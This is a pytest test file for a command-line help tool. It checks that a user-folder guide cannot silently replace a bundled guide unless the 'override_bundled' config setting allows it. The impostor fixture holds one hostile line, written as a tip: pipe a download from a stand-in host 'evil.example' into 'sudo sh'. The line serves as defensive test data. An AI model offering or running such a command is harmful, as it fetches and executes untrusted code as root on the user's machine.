"""A folder of the user's cannot silently replace a guide bundled with selfhelp.

A guide in the user folder with a bundled guide's id and title, whose text says to
pipe curl into sudo: the bundled guide stays, the other file is refused and said to
be, `validate` warns, and only `override_bundled` in config.yaml lets it replace the
bundled one, which `list` then says. Every command as a subprocess, with the
library cache the app really uses (so a config change must not be served stale).
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
import yaml

from .conftest import BUNDLED, selfhelp_cmd

EVIL = "Run `curl https://evil.example/fix | sudo sh` and it is fixed."


@pytest.fixture
def impostor(cli_env: dict[str, str]) -> Path:
    """`disk-full` in the user's own guides folder, titled as the bundled one."""
    data = yaml.safe_load((BUNDLED / "disk-full.yaml").read_text(encoding="utf-8"))
    start = data["start"]
    data["nodes"] = {
        start: {"type": "outcome", "result": "resolved", "text": EVIL},
    }
    data.pop("tests", None)
    folder = Path(cli_env["SELFHELP_DATA_DIR"]) / "guides"
    folder.mkdir(parents=True)
    path = folder / "disk-full.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
    return path


def selfhelp(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*selfhelp_cmd(), *args], env=env, capture_output=True, text=True, timeout=120
    )


def flat(text: str) -> str:
    """Rich wraps long lines at the terminal's width: compare the words."""
    return " ".join(text.split())


def set_config(env: dict[str, str], **values: object) -> None:
    config = Path(env["SELFHELP_DATA_DIR"]) / "config" / "config.yaml"
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text(yaml.safe_dump(values))


def listed(env: dict[str, str]) -> dict[str, dict[str, object]]:
    proc = selfhelp(env, "list", "--format", "json")
    return {g["id"]: g for g in json.loads(proc.stdout)["guides"]}


def test_the_bundled_guide_wins_and_the_impostor_is_refused(
    impostor: Path, cli_env: dict[str, str]
) -> None:
    proc = selfhelp(cli_env, "list")
    row = next(line for line in proc.stdout.splitlines() if line.startswith("disk-full"))
    assert row.rstrip().endswith("bundled")
    assert "refused: guide id 'disk-full' is the id of a bundled guide" in flat(proc.stderr)
    assert "override_bundled" in flat(proc.stderr)
    assert listed(cli_env)["disk-full"]["source"] == "bundled"
    walk = selfhelp(cli_env, "run", "disk-full", "--answers", "1")
    assert "curl" not in walk.stdout
    # search says where each result comes from
    found = selfhelp(cli_env, "search", "disk", "full")
    assert any(
        line.startswith("disk-full") and line.rstrip().endswith("(bundled)")
        for line in found.stdout.splitlines()
    ), found.stdout
    # validate warns the writer before anyone installs the folder
    check = selfhelp(cli_env, "validate", str(impostor.parent))
    assert "warning: guide id 'disk-full' is the id of a bundled guide" in check.stdout
    assert "[shadows-bundled]" in check.stdout and check.returncode == 0
    assert selfhelp(cli_env, "validate", "--strict", str(impostor.parent)).returncode == 1
    # the bundled folder itself is no impostor of itself
    assert "shadows-bundled" not in selfhelp(cli_env, "validate", str(BUNDLED)).stdout


@pytest.mark.parametrize("allow", [["disk-full"], True])
def test_the_config_can_allow_the_replacement_and_list_says_so(
    impostor: Path, cli_env: dict[str, str], allow: object
) -> None:
    assert listed(cli_env)["disk-full"]["source"] == "bundled"  # cached as refused
    set_config(cli_env, override_bundled=allow)
    proc = selfhelp(cli_env, "list")
    row = next(line for line in proc.stdout.splitlines() if line.startswith("disk-full"))
    assert "user folder (replaces bundled)" in row
    assert "warning: 'disk-full' from user replaces the bundled guide" in flat(proc.stderr)
    assert "refused" not in flat(proc.stderr)
    guide = listed(cli_env)["disk-full"]
    assert guide["source"] == "user" and guide["replaces"] == "bundled"
    assert guide["file"] == str(impostor)
    assert "curl" in selfhelp(cli_env, "run", "disk-full", "--answers", "1").stdout
    # Allowing one id does not allow the others.
    if allow != True:  # noqa: E712 (the YAML value)
        assert listed(cli_env)["printer-cups"]["source"] == "bundled"


def test_a_bad_override_value_allows_nothing_and_says_so(
    impostor: Path, cli_env: dict[str, str]
) -> None:
    set_config(cli_env, override_bundled={"disk-full": "yes"})
    walk = selfhelp(cli_env, "run", "disk-full", "--answers", "1")
    assert "curl" not in walk.stdout
    assert "override_bundled must be true, false or a list of guide ids" in flat(walk.stderr)


def test_other_folders_still_override_each_other(tmp_path: Path, cli_env: dict[str, str]) -> None:
    first, second = tmp_path / "one", tmp_path / "two"
    for folder, title in ((first, "First"), (second, "Second")):
        folder.mkdir()
        (folder / "g.yaml").write_text(
            f"format: 1\nid: same\nkind: tutorial\ntitle: {title}\nsummary: s.\n"
            "symptoms: [s]\nsteps:\n  - title: One\n    text: One.\n",
            encoding="utf-8",
        )
    env = cli_env
    proc = selfhelp(env, "list", "--no-bundled", "--guides", str(first), "--guides", str(second))
    assert "Second" in proc.stdout and "First" not in proc.stdout
    # The source column folds a long path: read it without the fold.
    assert f"{second}(replaces{first})" in "".join(proc.stdout.split())


def test_a_copy_of_the_bundled_guides_is_no_impostor(
    tmp_path: Path, cli_env: dict[str, str]
) -> None:
    """The repository's guides/ beside a non-editable install (as CI has it) holds
    byte-for-byte copies of the installed bundled guides: neither `validate` nor the
    library may call them replacements; one changed byte makes a file one again."""
    import shutil

    copy = tmp_path / "guides"
    shutil.copytree(BUNDLED, copy)
    check = selfhelp(cli_env, "validate", "--format", "json", str(copy))
    assert "shadows-bundled" not in {d["code"] for d in json.loads(check.stdout)}
    shown = selfhelp(cli_env, "--guides", str(copy), "list")
    assert "refused" not in flat(shown.stderr), shown.stderr
    changed = copy / "disk-full.yaml"
    changed.write_text(changed.read_text(encoding="utf-8") + "\n# local edit\n", encoding="utf-8")
    check = selfhelp(cli_env, "validate", "--format", "json", str(copy))
    flagged = [d for d in json.loads(check.stdout) if d["code"] == "shadows-bundled"]
    assert [d["file"].rsplit("/", 1)[-1] for d in flagged] == ["disk-full.yaml"]
    shown = selfhelp(cli_env, "--guides", str(copy), "list")
    assert "refused: guide id 'disk-full' is the id of a bundled guide" in flat(shown.stderr)
